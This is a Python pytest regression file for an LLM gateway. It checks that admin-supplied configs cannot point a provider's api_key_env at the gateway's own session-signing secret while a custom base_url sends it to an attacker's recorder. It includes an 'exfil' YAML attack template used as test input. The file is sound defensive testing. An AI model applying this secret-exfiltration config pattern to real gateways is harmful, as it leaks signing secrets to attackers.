"""An admin cannot make the gateway send one of its own secrets to an address of their choosing
by naming it as a provider's ``api_key_env`` (issue: ``CONFIANCE_SECRET_KEY`` and a
``base_url`` of their own received the session-signing secret as a bearer token)."""

from __future__ import annotations

import dataclasses

import httpx
import openai
import pytest

from confiance.api import create_api
from confiance.config.load import load_document, parse_config

from .conftest import Stack
from .test_redirects import Recorder, _serve

SECRET = "session-signing-secret-that-must-stay-home-0123456789"
ATTACK = """\
version: 1
providers:
  mine:
    kind: openai
    base_url: "{url}/v1"
    api_key_env: {variable}
routes:
  exfil:
    target: mine/gpt-4o
"""


@pytest.fixture
async def attacker() -> Recorder:
    async with _serve(Recorder(status=200)) as recorder:
        yield recorder  # type: ignore[misc]


async def test_post_api_config_naming_a_confiance_variable_is_refused(
    stack: Stack, attacker: Recorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CONFIANCE_SECRET_KEY", SECRET)
    before = await stack.services.store.revisions.latest_number()
    text = ATTACK.format(url=attacker.url, variable="CONFIANCE_SECRET_KEY")
    headers = {"Authorization": f"Bearer {stack.admin_key}"}
    async with httpx.AsyncClient(base_url=stack.url, headers=headers) as client:
        response = await client.post("/api/config", json={"yaml": text})
    assert response.status_code == 400
    error = response.json()["error"]
    (problem,) = error["problems"]
    assert (problem["path"], problem["line"], problem["column"]) == (
        "providers.mine.api_key_env",
        6,
        18,
    )
    assert "CONFIANCE_SECRET_KEY may not hold a provider key" in problem["message"]
    assert "request.yaml:6:18: providers.mine.api_key_env:" in error["message"]
    assert SECRET not in response.text
    assert await stack.services.store.revisions.latest_number() == before
    assert attacker.seen == []


async def test_a_revision_stored_before_the_rule_never_gets_the_secret_read(
    stack: Stack, attacker: Recorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CONFIANCE_SECRET_KEY", SECRET)
    text = ATTACK.format(url=attacker.url, variable="CONFIANCE_SECRET_KEY")
    # An older gateway validated less: store the document as it would have, past the check.
    document = parse_config(text.replace("CONFIANCE_SECRET_KEY", "PLACEHOLDER"), "x").document
    document["providers"]["mine"]["api_key_env"] = "CONFIANCE_SECRET_KEY"
    await stack.services.revisions.apply(load_document(document, "old"), "old", "old gateway")
    warnings = stack.gateway.snapshots.missing_secrets(load_document(document, "old").config)
    await stack.gateway.refresh()
    async with openai.AsyncOpenAI(base_url=stack.v1, api_key=stack.app_key, max_retries=0) as c:
        with pytest.raises(openai.APIStatusError):
            await c.chat.completions.create(
                model="exfil", messages=[{"role": "user", "content": "hi"}]
            )
    assert attacker.seen, "the route did not call the provider: the test proves nothing"
    for headers in attacker.seen:
        assert all(SECRET not in value for value in headers.values())
        assert "authorization" not in headers
    assert any("CONFIANCE_SECRET_KEY may not hold a provider key" in w for w in warnings)


async def test_the_api_follows_the_operator_list(stack: Stack, attacker: Recorder) -> None:
    settings = dataclasses.replace(
        stack.services.settings, key_env_allow=("OPENAI_API_KEY", "VENDOR_*")
    )
    api = create_api(dataclasses.replace(stack.services, settings=settings))
    headers = {"Authorization": f"Bearer {stack.admin_key}"}
    transport = httpx.ASGITransport(app=api)
    async with httpx.AsyncClient(transport=transport, base_url="http://t", headers=headers) as c:
        refused = await c.post(
            "/config", json={"yaml": ATTACK.format(url=attacker.url, variable="HOME_TOKEN")}
        )
        allowed = await c.post(
            "/config",
            json={"yaml": ATTACK.format(url=attacker.url, variable="VENDOR_KEY"), "dry_run": True},
        )
    assert refused.status_code == 400
    (problem,) = refused.json()["error"]["problems"]
    assert "HOME_TOKEN is not among the variables allowed for provider keys" in problem["message"]
    assert "CONFIANCE_KEY_ENV_ALLOW=OPENAI_API_KEY,VENDOR_*" in problem["message"]
    assert allowed.status_code == 200, allowed.text
